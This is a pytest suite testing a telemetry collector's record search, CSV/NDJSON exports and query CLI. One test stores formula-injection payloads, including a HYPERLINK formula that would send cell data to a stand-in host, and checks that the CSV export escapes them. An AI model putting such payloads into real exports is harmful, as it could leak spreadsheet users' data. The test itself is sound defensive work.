"""GET /api/records' search and exports, and `telemd-collector query`, on both engines."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx
import pytest
from collector_proc import BATCH_HEADERS, CollectorProcess, ndjson, new_id, record

from telemd.collector.cli import EXIT_OK, EXIT_USAGE, main
from telemd.collector.store.export import PAGE_ROWS


@pytest.fixture
def client(server: CollectorProcess) -> Any:
    with server.client() as client:
        yield client


def store(client: httpx.Client, records: list[dict[str, Any]]) -> None:
    for start in range(0, len(records), 5000):
        chunk = records[start : start + 5000]
        response = client.post("/api/v1/records", headers=BATCH_HEADERS, content=ndjson(chunk))
        assert response.status_code == 200 and response.json()["accepted"] == len(chunk)


def test_search_filters_over_http(client: httpx.Client) -> None:
    tag = new_id()[:8]
    event = new_id()
    store(
        client,
        [
            record(classification=f"org.{tag}/crash/a", severity="4", payload=f"SIGSEGV {tag}"),
            record(classification=f"org.{tag}/crash/b", severity="2", event_id=event),
            record(classification=f"org.{tag}/oops/a", severity="3", system_name="clear-linux-os"),
        ],
    )
    response = client.get("/api/records", params={"classification": f"org.{tag}/crash/*"})
    assert {r["classification"] for r in response.json()["records"]} == {
        f"org.{tag}/crash/a",
        f"org.{tag}/crash/b",
    }
    pattern = {"classification": f"org.{tag}/*"}
    by_severity = client.get("/api/records", params={**pattern, "severity_min": 3}).json()
    assert len(by_severity["records"]) == 2
    assert (
        client.get("/api/records", params={"q": f"sigsegv {tag}"}).json()["records"][0]["severity"]
        == 4
    )
    assert len(client.get("/api/records", params={"event_id": event}).json()["records"]) == 1
    rows = client.get("/api/records", params={**pattern, "system_name": "clear-linux-os"}).json()
    assert [r["classification"] for r in rows["records"]] == [f"org.{tag}/oops/a"]
    window = {**pattern, "since": "2000-01-01T00:00:00Z", "until": "2999-01-01"}
    assert len(client.get("/api/records", params=window).json()["records"]) == 3
    assert client.get("/api/records", params={**pattern, "until": "0"}).json()["records"] == []


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"severity_min": "0"}, "severity_min"),
        ({"since": "tomorrow"}, "since"),
        ({"until": "1e9"}, "until"),
        ({"event_id": "x"}, "event_id"),
        ({"q": "%%"}, "q"),
        ({"format": "xml"}, "format"),
        ({"format": "csv", "limit": "5"}, "limit"),
        ({"host_type": "x" * 300}, "host_type"),
    ],
)
def test_bad_search_parameters_are_400_naming_them(
    client: httpx.Client, params: dict[str, str], field: str
) -> None:
    response = client.get("/api/records", params=params)
    assert response.status_code == 400
    assert response.json()["field"] == field


def test_exports_stream_the_whole_result(client: httpx.Client) -> None:
    machine = new_id()
    count = 2 * PAGE_ROWS + 7  # three pages
    payloads = [f'line one, "{i}"\nline two =1+1' for i in range(count)]
    store(client, [record(machine_id=machine, payload=p) for p in payloads])
    with client.stream("GET", "/api/records", params={"machine_id": machine, "format": "csv"}) as r:
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        assert "content-length" not in r.headers  # streamed, not built whole
        text = r.read().decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(row["payload"] for row in rows) == sorted(payloads)
    ids = [int(row["id"]) for row in rows]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == count

    response = client.get("/api/records", params={"machine_id": machine, "format": "ndjson"})
    assert response.headers["content-type"] == "application/x-ndjson"
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert [r["id"] for r in lines] == ids
    assert lines[0]["severity"] == 1 and lines[0]["machine_id"] == machine


def test_csv_cells_never_start_a_formula(client: httpx.Client) -> None:
    machine = new_id()
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2", "@SUM(A1)", "\tx"]
    store(client, [record(machine_id=machine, payload=p) for p in hostile])
    text = client.get("/api/records", params={"machine_id": machine, "format": "csv"}).text
    cells = sorted(row["payload"] for row in csv.DictReader(io.StringIO(text, newline="")))
    assert cells == sorted("'" + p for p in hostile)
    exact = client.get("/api/records", params={"machine_id": machine, "format": "ndjson"}).text
    assert sorted(json.loads(line)["payload"] for line in exact.splitlines()) == sorted(hostile)


def test_an_empty_export_is_a_header_only(client: httpx.Client) -> None:
    response = client.get("/api/records", params={"machine_id": new_id(), "format": "csv"})
    assert response.status_code == 200
    assert response.text.startswith("id,received_at,record_id,")
    assert response.text.count("\n") == 1


def test_query_cli_searches_and_exports(
    server: CollectorProcess, client: httpx.Client, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    machine = new_id()
    store(client, [record(machine_id=machine, payload=f"needle {i}") for i in range(3)])
    store(client, [record(machine_id=machine, payload="hay")])
    db = ["--db", server.db_url]
    status = main(["query", *db, "--machine-id", machine, "--q", "needle", "--format", "ndjson"])
    out, _ = capsysbinary.readouterr()
    assert status == EXIT_OK
    assert sorted(json.loads(line)["payload"] for line in out.splitlines()) == [
        "needle 0",
        "needle 1",
        "needle 2",
    ]
    assert main(["query", *db, "--format", "csv", "--limit", "2"]) == EXIT_USAGE
    assert b"--limit" in capsysbinary.readouterr().err
    assert main(["query", *db, "--severity-min", "9"]) == EXIT_USAGE
